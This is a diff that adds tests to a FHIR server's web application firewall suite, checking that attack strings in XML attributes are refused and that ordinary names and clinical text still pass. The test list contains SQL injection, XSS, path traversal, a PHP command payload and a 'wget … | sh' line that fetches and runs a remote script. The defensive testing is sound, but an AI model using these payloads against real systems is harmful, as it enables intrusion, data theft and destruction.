@@ -3,6 +3,7 @@ FHIR request that must pass."""
 
 from __future__ import annotations
 
+import html
 import json
 
 import pytest
@@ -517,3 +518,47 @@ def test_sdc_x_fhir_query_expression_passes(fhir) -> None:
         ],
     }
     _create_and_delete(fhir, questionnaire)
+
+
+# WAF-08: FHIR XML keeps every value in an attribute (<family value="..."/>), which the XML body processor's
+# XML:/* does not expose; the CRS attack rules and the kit's value rules read XML://@* as well.
+def _xml_observation(value: str) -> bytes:
+    v = html.escape(value, quote=True)
+    return (
+        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="Note"/></code>'
+        f'<note><text value="{v}"/></note><valueString value="{v}"/></Observation>'
+    ).encode()
+
+
+def _xml_patient_named(family: str) -> bytes:
+    return (
+        f'<Patient xmlns="http://hl7.org/fhir"><name><family value="{html.escape(family, quote=True)}"/>'
+        '<given value="Sean"/></name></Patient>'
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    "family",
+    [
+        "x' OR '1'='1",
+        "1 UNION SELECT username,password FROM pg_shadow--",
+        "<script>alert(1)</script>",
+        "a; wget http://198.51.100.7/x.sh | sh",
+        "../../../../etc/passwd",
+        "<?php system('id'); ?>",
+    ],
+)
+def test_attack_in_xml_attribute_refused(fhir, family: str) -> None:
+    _refused(fhir.request("POST", "Patient", data=_xml_patient_named(family), headers=FX))
+
+
+def test_names_and_clinical_prose_in_xml_attributes_pass(fhir) -> None:
+    for family in ("O'Brien", "Smith-Jones", "Müller-Lüdenscheidt"):
+        assert not _edge_refused(fhir.request("POST", "Patient", data=_xml_patient_named(family), headers=FX))
+    for text in CLINICAL:
+        r = fhir.request("POST", "Observation", data=_xml_observation(text), headers=FX)
+        assert not _edge_refused(r), (text, r.text[:200])
+
+
+def test_sql_in_xml_free_text_refused(fhir) -> None:
+    _refused(fhir.request("POST", "Observation", data=_xml_observation("x'); DROP TABLE hfj_resource;--"), headers=FX))
